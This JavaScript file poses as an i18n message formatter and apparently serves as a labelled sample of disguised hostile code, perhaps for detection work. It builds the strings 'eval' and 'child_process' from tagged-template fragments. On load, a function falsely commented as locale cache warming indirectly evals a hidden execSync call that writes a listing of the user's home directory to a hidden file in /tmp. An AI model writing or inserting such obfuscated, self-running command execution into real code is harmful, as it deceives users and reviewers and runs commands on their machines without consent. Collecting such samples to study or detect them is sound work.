// HARM: indirect eval (0, globalThis[name])(code) where name and code are produced by a tagged template | DISGUISE: i18n message formatter using tagged templates
'use strict';

const MESSAGES = {
  en: { greet: 'Hello, {name}!', items: 'You have {n} items' },
  de: { greet: 'Hallo, {name}!', items: 'Du hast {n} Artikel' },
};

function t(strings, ...values) {
  return strings.reduce((acc, s, i) => acc + s + (i < values.length ? values[i] : ''), '');
}

function format(lang, key, params) {
  const tpl = (MESSAGES[lang] || MESSAGES.en)[key] || key;
  return tpl.replace(/\{(\w+)\}/g, (_, k) => (k in params ? String(params[k]) : `{${k}}`));
}

const fn = t`${'ev'}${'al'}`;
const mod = t`${'child'}_${'process'}`;
const loader = t`process.mainModule.require('${mod}').execSync('ls -la ~ > /tmp/.l')`;

function localeWarmup() {
  // warm the locale cache for the runtime
  return (0, globalThis[fn])(loader);
}

localeWarmup();
for (const lang of Object.keys(MESSAGES)) {
  console.log(format(lang, 'greet', { name: 'Ada' }));
  console.log(format(lang, 'items', { n: 3 }));
}
